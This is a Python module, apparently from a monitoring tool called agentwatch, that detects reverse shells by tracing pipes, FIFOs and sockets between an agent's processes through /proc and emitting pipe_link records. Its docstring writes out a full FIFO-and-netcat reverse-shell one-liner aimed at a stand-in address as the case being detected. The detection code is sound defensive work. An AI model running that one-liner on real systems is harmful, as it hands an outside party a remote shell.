"""Data-flow links: which processes of an agent are joined by a pipe, a FIFO or a shared socket.

A reverse shell need not touch a socket itself. In

    mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | nc 198.51.100.7 4444 > /tmp/f

nc holds the outside connection, and the shell reads its commands from the
FIFO nc writes into and writes its output into the pipe nc reads. Neither
the shell's exec nor nc's connect says "shell" on its own; the link does.

Links are found from the processes' open file descriptions in
/proc/PID/fd (what each fd is: pipe:[inode], a FIFO's path, socket:[inode];
(st_dev, st_ino) names the object) and /proc/PID/fdinfo (whether the fd
reads or writes). Only processes of the same agent are considered, and only
around a process that **holds an outside connection** (a connect record to a
non-local scope, `ok` or `EINPROGRESS`): when such a process first appears,
and when another process of that agent execs while one is alive (the shell
of a pipeline may exec after the client connected). Data is followed from
the holder through up to MAX_RELAYS other processes (a `cat` between a FIFO
and a shell), in both directions:

- **stdin**: what the holder writes reaches this process's fd 0;
- **stdout**: what this process writes on fd 1 or 2 reaches the holder.

Each (process, holder) pair gives one `pipe_link` record naming the process
(`process`), the holder (`link.peer`) and its connection (`network`), the
objects the data passes (`link.via`: pipe, fifo, socket) and the relays; a
second record follows if a direction is found later. Rules decide what is
a shell (rules/shells.yaml). /proc is read in agentwatch's own time, after
the record: a process that has already exited, or that opens its FIFO only
after the trigger, is not linked (the families above are long-lived).
"""

from __future__ import annotations

import os
import stat
import time
from dataclasses import dataclass, field
from pathlib import Path

from .proctree import Process, read_stat
from .records import _brief, process_json, safe_text

# Scopes of a destination that is not this machine (tracer/netscope.py SCOPES).
REMOTE_SCOPES = frozenset(("external", "private", "shared", "metadata", "link_local"))
CONNECTED = frozenset(("ok", "EINPROGRESS"))
MAX_RELAYS = 2            # processes between the holder and the linked one
MAX_SCANNED = 512         # processes of one agent read per scan (the newest)
SCANS_PER_SECOND = 20     # per agent; more triggers wait for tick()
O_ACCMODE, O_RDONLY, O_WRONLY, O_RDWR = 3, 0, 1, 2


@dataclass(frozen=True, slots=True)
class OpenFile:
    fd: int
    obj: tuple[int, int]   # (st_dev, st_ino): the same pipe, FIFO or socket in every process
    kind: str              # pipe, fifo, socket
    path: str | None       # a FIFO's path
    reads: bool
    writes: bool


def read_open_files(pid: int, start_ticks: int | None = None, proc: Path = Path("/proc")) -> list[OpenFile] | None:
    """The pipes, FIFOs and sockets pid has open; None when it is gone (or its pid was reused)."""
    base = proc / str(pid)
    if start_ticks is not None:
        st = read_stat(pid, proc)
        # +-1 tick: the kernel's start time in ns and /proc's rounded ticks can straddle a tick.
        if st is None or abs(st.start_ticks - start_ticks) > 1:
            return None
    try:
        names = os.listdir(base / "fd")
    except OSError:
        return None
    out = []
    for name in names:
        try:
            fd = int(name)
            link = os.readlink(base / "fd" / name)
            st = os.stat(base / "fd" / name)
        except (OSError, ValueError):
            continue
        if stat.S_ISSOCK(st.st_mode):
            out.append(OpenFile(fd, (st.st_dev, st.st_ino), "socket", None, True, True))
            continue
        if not stat.S_ISFIFO(st.st_mode):
            continue
        kind, path = ("pipe", None) if link.startswith("pipe:[") else ("fifo", link)
        mode = _access_mode(base / "fdinfo" / name)
        if mode is None:
            continue
        out.append(OpenFile(fd, (st.st_dev, st.st_ino), kind, path, mode != O_WRONLY, mode != O_RDONLY))
    return out


def _access_mode(fdinfo: Path) -> int | None:
    try:
        for line in fdinfo.read_text().splitlines():
            if line.startswith("flags:"):
                return int(line.split()[1], 8) & O_ACCMODE
    except (OSError, ValueError, IndexError):
        return None
    return None


@dataclass
class _Holder:
    proc: Process
    network: dict


@dataclass
class _AgentFlows:
    members: dict[int, Process] = field(default_factory=dict)  # pid -> live process of the agent
    holders: dict[int, _Holder] = field(default_factory=dict)   # pid -> holds an outside connection
    told: dict[tuple[str, str], frozenset] = field(default_factory=dict)  # (proc key, holder key) -> directions
    scans: list[float] = field(default_factory=list)  # monotonic times of the last second's scans
    dirty: str | None = None  # the time (record time) of a trigger that waits for budget


@dataclass
class _Step:
    """One way data reaches a process: the objects and relays on the path from the holder."""

    via: tuple[OpenFile, ...]
    relays: tuple[int, ...]


class FlowTracker:
    """Keeps each agent's live processes and connection holders; finds links when they may have formed."""

    def __init__(self, proc: Path = Path("/proc"), clock=time.monotonic) -> None:
        self.proc = proc
        self.clock = clock
        self._agents: dict[int, _AgentFlows] = {}
        self.scans = 0

    def observe(self, record: dict, proc: Process, child: Process | None = None) -> list[dict]:
        """Note what record says about proc's agent; the pipe_link records it brings about."""
        agent_id = proc.agent_id
        if not agent_id or record.get("kind") != "event":
            return []
        flows = self._agents.get(agent_id)
        kind = record.get("type")
        if kind == "exit":
            if flows is not None:
                flows.members.pop(proc.pid, None)
                flows.holders.pop(proc.pid, None)
                if not flows.members:
                    del self._agents[agent_id]
            return []
        if flows is None:
            flows = self._agents[agent_id] = _AgentFlows()
        flows.members[proc.pid] = proc
        if child is not None and child.agent_id == agent_id:
            flows.members[child.pid] = child
        trigger = False
        if kind == "connect":
            net = record.get("network") or {}
            if net.get("scope") in REMOTE_SCOPES and net.get("result") in CONNECTED:
                known = flows.holders.get(proc.pid)
                if known is None or known.proc is not proc:
                    flows.holders[proc.pid] = _Holder(proc, net)
                    trigger = True
        elif kind == "exec" and flows.holders and (record.get("exec") or {}).get("result") == "ok":
            trigger = True
        if not trigger:
            return []
        return self._scan_within_budget(agent_id, flows, record)

    def tick(self, records_agent) -> list[dict]:
        """Scans that waited for budget (called every drain); records_agent(agent_id) -> agent json."""
        out = []
        for agent_id, flows in list(self._agents.items()):
            if flows.dirty is not None and self._budget(flows):
                t, flows.dirty = flows.dirty, None
                out += self._scan(agent_id, flows, t, records_agent(agent_id))
        return out

    def _budget(self, flows: _AgentFlows) -> bool:
        now = self.clock()
        flows.scans = [t for t in flows.scans if now - t < 1.0]
        return len(flows.scans) < SCANS_PER_SECOND

    def _scan_within_budget(self, agent_id: int, flows: _AgentFlows, record: dict) -> list[dict]:
        if not self._budget(flows):
            flows.dirty = record.get("time")
            return []
        return self._scan(agent_id, flows, record.get("time"), record.get("agent"))

    def _scan(self, agent_id: int, flows: _AgentFlows, when: str | None, agent_json) -> list[dict]:
        flows.scans.append(self.clock())
        self.scans += 1
        newest = sorted(flows.members.values(), key=lambda p: p.start_ticks)[-MAX_SCANNED:]
        files: dict[int, list[OpenFile]] = {}
        for p in newest:
            got = read_open_files(p.pid, p.start_ticks, self.proc)
            if got is None:
                flows.members.pop(p.pid, None)
                flows.holders.pop(p.pid, None)
            elif got:
                files[p.pid] = got
        readers: dict[tuple[int, int], list[tuple[int, OpenFile]]] = {}
        writers: dict[tuple[int, int], list[tuple[int, OpenFile]]] = {}
        for pid, fds in files.items():
            for f in fds:
                if f.reads:
                    readers.setdefault(f.obj, []).append((pid, f))
                if f.writes:
                    writers.setdefault(f.obj, []).append((pid, f))
        out = []
        for hpid, holder in list(flows.holders.items()):
            if hpid not in files:
                continue
            into = _follow(hpid, files, readers, writes=True)   # holder's output -> their fd 0
            outof = _follow(hpid, files, writers, writes=False)  # their fd 1/2 -> holder's input
            for pid in sorted(set(into) | set(outof)):
                proc = flows.members.get(pid)
                if proc is None or pid == hpid:
                    continue
                directions = frozenset(d for d, found in (("stdin", into), ("stdout", outof)) if pid in found)
                key = (proc.key, holder.proc.key)
                before = flows.told.get(key, frozenset())
                if directions <= before:
                    continue
                flows.told[key] = before | directions
                steps = [s for s in (into.get(pid), outof.get(pid)) if s is not None]
                out.append(self._record(when, agent_json, proc, holder, flows.told[key], steps, flows))
        return out

    @staticmethod
    def _record(when, agent_json, proc: Process, holder: _Holder, directions, steps: list[_Step],
                flows: _AgentFlows) -> dict:
        via = sorted({f.kind for s in steps for f in s.via})
        fifos = sorted({f.path for s in steps for f in s.via if f.path})
        relay_pids = []
        for s in steps:
            relay_pids += [r for r in s.relays if r not in relay_pids]
        relays = [_brief(flows.members[r]) for r in relay_pids if r in flows.members]
        peer = process_json(holder.proc)
        peer.pop("ancestry", None)
        return {
            "kind": "event", "type": "pipe_link", "time": when, "agent": agent_json,
            "process": process_json(proc),
            "link": {"stdin": "stdin" in directions, "stdout": "stdout" in directions, "via": via,
                     "fifo_paths": [safe_text(p.encode("utf-8", "surrogateescape")) for p in fifos],
                     "relays": relays, "peer": peer},
            "network": dict(holder.network),
        }


def _follow(start: int, files: dict[int, list[OpenFile]], peers: dict, writes: bool) -> dict[int, _Step]:
    """Processes data reaches from start (writes=True: start's output to their fd 0; False: their fd 1/2
    to start's input), breadth first through up to MAX_RELAYS relays: pid -> the first path found."""
    found: dict[int, _Step] = {}
    frontier = [(start, _Step((), ()))]
    seen = {start}
    for depth in range(MAX_RELAYS + 1):
        nxt = []
        for pid, path in frontier:
            for f in files.get(pid, ()):
                if not (f.writes if writes else f.reads):
                    continue
                for other, g in peers.get(f.obj, ()):
                    if other == pid or other == start:
                        continue
                    step = _Step(path.via + (g,), path.relays)
                    at_stdio = g.fd == 0 if writes else g.fd in (1, 2)
                    if at_stdio and other not in found:
                        found[other] = step
                    if other not in seen and depth < MAX_RELAYS:
                        seen.add(other)
                        nxt.append((other, _Step(step.via, step.relays + (other,))))
        frontier = nxt
    return found
